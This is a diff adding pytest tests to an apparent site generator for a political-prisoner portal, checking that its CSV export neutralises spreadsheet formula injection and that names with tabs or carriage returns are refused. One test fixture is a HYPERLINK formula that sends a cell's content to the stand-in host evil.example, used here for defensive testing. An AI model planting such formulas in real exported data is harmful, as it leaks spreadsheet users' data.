@@ -68,3 +68,44 @@ def test_search_index_per_language_without_withheld_people(built_fixture):
     anna = next(d for d in index if d["t"] == "Ганна Тэст")
     assert anna["u"] == "../prisoners/anna-test/" and anna["k"] == "prisoner"
     assert (built_fixture / "be/search" / anna["u"] / "index.html").resolve().is_file()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_csv_cell_is_never_a_spreadsheet_formula(project, start):
+    """OWASP's rule: a cell starting like a formula gets a leading apostrophe in the CSV;
+    the JSON keeps the text as written."""
+    from conftest import build
+
+    root = project("minimal")
+    name = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+    path = root / "data/prisoners/anna-test.yaml"
+    path.write_text(path.read_text().replace("  en: Anna Test", "  en: " + json.dumps(name), 1))
+    build(root)
+    rows = list(csv.DictReader((root / "site/data/prisoners.csv").open(
+        encoding="utf-8", newline="")))
+    anna = next(r for r in rows if r["slug"] == "anna-test")
+    assert anna["name_en"] == "'" + name
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+               for row in rows for cell in row.values())
+    data = json.loads((root / "site/data/prisoners.json").read_text(encoding="utf-8"))
+    assert next(p for p in data["prisoners"] if p["slug"] == "anna-test")["name"]["en"] == name
+
+
+def test_cells_starting_with_a_tab_or_carriage_return_are_neutralised_too():
+    from portal.opendata import cell
+
+    assert [cell(x) for x in ("\t=1+1", "\r=1+1", "Anna", "2021-05")] == [
+        "'\t=1+1", "'\r=1+1", "Anna", "2021-05"]
+
+
+@pytest.mark.parametrize("name, message", [
+    ("Anna\tTest", "a name is one line of text, without tabs"),
+    ("Anna\rTest", "the text holds a control character (U+000D)"),
+])
+def test_names_with_tabs_or_line_breaks_are_refused(project, name, message):
+    from conftest import errors
+
+    root = project("minimal")
+    path = root / "data/prisoners/anna-test.yaml"
+    path.write_text(path.read_text().replace("  en: Anna Test", "  en: " + json.dumps(name), 1))
+    assert any(message in p.message and p.field == "name.en" for p in errors(root))
